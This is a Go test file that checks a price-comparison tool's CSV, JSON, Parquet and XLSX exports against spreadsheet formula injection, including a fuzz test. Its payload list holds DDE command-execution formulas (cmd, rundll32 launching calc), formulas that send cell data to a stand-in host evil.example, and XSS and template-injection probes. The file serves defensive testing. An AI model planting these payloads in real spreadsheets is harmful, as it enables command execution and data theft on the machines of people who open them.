package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"

	"pricegap/compare"
	"pricegap/market"
)

// payloads are texts that a spreadsheet, a terminal or a reader of tables could take for more than text.
var payloads = []string{
	`=1+1`, `=HYPERLINK("https://evil.example","click")`, `=cmd|'/c calc'!A1`, `=IMPORTXML("https://evil.example","//a")`,
	`=WEBSERVICE("https://evil.example/"&A1)`, `=DDE("cmd";"/c calc";"x")`, `=2+5+cmd|' /C calc'!A0`, `=rundll32|'URL.dll,OpenURL calc.exe'!A`,
	`+1`, `+1+1`, `+cmd|'/c calc'!A1`, `-1`, `-1+1`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)`, `@SUM(A1:A9)*cmd|'/c calc'!A1`,
	"\t=1", "\t1", "\r=1", "\n=1", "\r\n=1", "\x00=1", "\v=1", "\x1b=1",
	`＝1`, `＋1`, `－1`, `＠SUM(A1)`, "\u200b=1", "\ufeff=1", "\u202e=1", "\u00ad=1",
	`"=1"`, `";=1`, `",=1`, `;=1`, `,=1`, `|=1`, `""`, `"`, `""=1`, `'=1`, `''=1`, `' =1`, ` =1`, `%0A=1`,
	"a\"b", "a,b;c", "a\nb", "a\r\nb", "a\tb", "tail\n", "tail\\", `\"=1`,
	`0123`, `1e3`, `0x1F`, `TRUE`, `NO`, `null`, `undefined`, `2026-11-21`, `1/2`, `4006381333931`,
	`_x003D_1`, `<f>1+1</f>`, `</t></is></c>`, `&#61;1`, `<script>alert(1)</script>`, `{{7*7}}`, `${7*7}`,
	"\xff=1", "a\xc3", "😀=1", "e\u0301=",
}

// withPayload puts a text into every text field that a row has.
func withPayload(p string) compare.Standing {
	s := sample()[0]
	s.Product.ID, s.Product.MPN, s.Product.GTIN = market.ProductID(p), p, p
	s.Product.Title, s.Product.Brand = market.NewText(p), market.NewText(p)
	s.Rivals[0].Seen.Offer.Stock = market.Stock(p)
	s.Rivals[0].Seen.Offer.URL = p
	s.Lowest = market.SourceID(p)
	return s
}

// mended is the text as it may come back: valid UTF-8.
func mended(p string) string { return strings.ToValidUTF8(p, "\uFFFD") }

// dangerous reports whether a spreadsheet may take the text for a formula.
func dangerous(s string) bool {
	s = strings.TrimLeft(s, " \u00a0\u200b\ufeff\u00ad\u202e\x00\v\x1b")
	return s != "" && strings.ContainsAny(s[:1], "=+-@\t\r\n") || strings.HasPrefix(s, "＝") || strings.HasPrefix(s, "＋") ||
		strings.HasPrefix(s, "－") || strings.HasPrefix(s, "＠")
}

func TestPayloads(t *testing.T) {
	if len(payloads) < 60 {
		t.Fatalf("%d payloads, want 60", len(payloads))
	}
	columns := []string{"product", "mpn", "gtin", "title", "brand", "lumen.stock", "lowest"}
	for _, p := range payloads {
		for _, format := range []string{"csv", "csv-nl"} {
			out := write(t, format, Options{Columns: columns}, []compare.Standing{withPayload(p)})
			r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out, []byte("\ufeff"))))
			if format == "csv-nl" {
				r.Comma = ';'
			}
			rows, err := r.ReadAll()
			if err != nil || len(rows) != 2 {
				t.Fatalf("%s: %q does not come back: %v", format, p, err)
			}
			for i, got := range rows[1] {
				checkCell(t, format, p, columns[i], got)
			}
		}
		var rows []map[string]any
		if err := json.Unmarshal(write(t, "json", Options{Columns: columns}, []compare.Standing{withPayload(p)}), &rows); err != nil {
			t.Fatalf("json: %q: %v", p, err)
		}
		_, columnar := parquetRows(t, write(t, "parquet", Options{Columns: columns}, []compare.Standing{withPayload(p)}))
		for format, got := range map[string]any{"json": rows[0]["mpn"], "parquet": columnar[0]["mpn"]} {
			if got != mended(p) {
				t.Errorf("%s: %q came back as %q", format, p, got)
			}
		}
	}
}

// TestPayloadsInWorkbook is TestPayloads for xlsx, with all payloads in one workbook.
func TestPayloadsInWorkbook(t *testing.T) {
	columns := []string{"product", "mpn", "gtin", "title", "brand", "lumen.stock", "lowest"}
	var ss []compare.Standing
	for _, p := range payloads {
		ss = append(ss, withPayload(p))
	}
	rows := sheet(t, write(t, "xlsx", Options{Columns: columns}, ss))
	if len(rows) != len(payloads)+1 {
		t.Fatalf("%d rows of %d", len(rows)-1, len(payloads))
	}
	for n, p := range payloads {
		for i, got := range rows[n+1] {
			checkCell(t, "xlsx", p, columns[i], got)
		}
	}
}

// checkCell holds that a cell is no formula, and equal to the text once a leading ' is taken away.
func checkCell(t *testing.T, format, payload, column, got string) {
	t.Helper()
	want := mended(payload)
	if column == "title" || column == "brand" {
		want = market.NewText(payload).Plain()
	}
	// encoding/csv reads CRLF inside a cell as LF; XML cannot hold control characters.
	want = strings.ReplaceAll(want, "\r\n", "\n")
	if format == "xlsx" {
		want, got = legal(want), strings.ReplaceAll(got, "\r\n", "\n")
	}
	if dangerous(got) && !strings.HasPrefix(got, " ") {
		t.Errorf("%s: %s: %q is a formula: %q", format, column, payload, got)
	}
	if got != want && strings.TrimPrefix(got, "'") != want {
		t.Errorf("%s: %s: %q came back as %q", format, column, payload, got)
	}
}

// TestNoFormulas holds that a workbook of all payloads has neither formulas nor links.
func TestNoFormulas(t *testing.T) {
	var ss []compare.Standing
	for _, p := range payloads {
		ss = append(ss, withPayload(p))
	}
	f, err := excelize.OpenReader(bytes.NewReader(write(t, "xlsx", Options{}, ss)))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("Sheet1")
	if err != nil || len(rows) != len(ss)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for y, r := range rows {
		for x := range r {
			at, err := excelize.CoordinatesToCellName(x+1, y+1)
			if err != nil {
				t.Fatal(err)
			}
			if formula, _ := f.GetCellFormula("Sheet1", at); formula != "" {
				t.Errorf("%s is the formula %q", at, formula)
			}
			if linked, target, _ := f.GetCellHyperLink("Sheet1", at); linked {
				t.Errorf("%s links to %q", at, target)
			}
		}
	}
}

// FuzzCSVCell holds for any text that it comes back from CSV as it was, once a leading ' is taken away, that it is
// no formula, and that it disturbs no neighbour.
func FuzzCSVCell(f *testing.F) {
	for _, p := range payloads {
		f.Add(p)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for comma, line := range map[rune][]byte{
			',': append(append(append(appendQuoted(nil, "a"), ','), appendQuoted(nil, s)...), ",7\r\n"...),
			';': append(append(append(appendQuoted(nil, "a"), ';'), appendQuoted(nil, s)...), ";7\r\n"...),
		} {
			r := csv.NewReader(bytes.NewReader(line))
			r.Comma = comma
			rows, err := r.ReadAll()
			if err != nil || len(rows) != 1 || len(rows[0]) != 3 || rows[0][0] != "a" || rows[0][2] != "7" {
				t.Fatalf("%q: %q, %v", s, rows, err)
			}
			got, want := rows[0][1], strings.ReplaceAll(mended(s), "\r\n", "\n")
			if !utf8.ValidString(got) || got != want && got != "'"+want {
				t.Fatalf("%q came back as %q", s, got)
			}
			if got != "" && strings.ContainsAny(got[:1], "=+-@\t\r\n") {
				t.Fatalf("%q is a formula", got)
			}
		}
	})
}
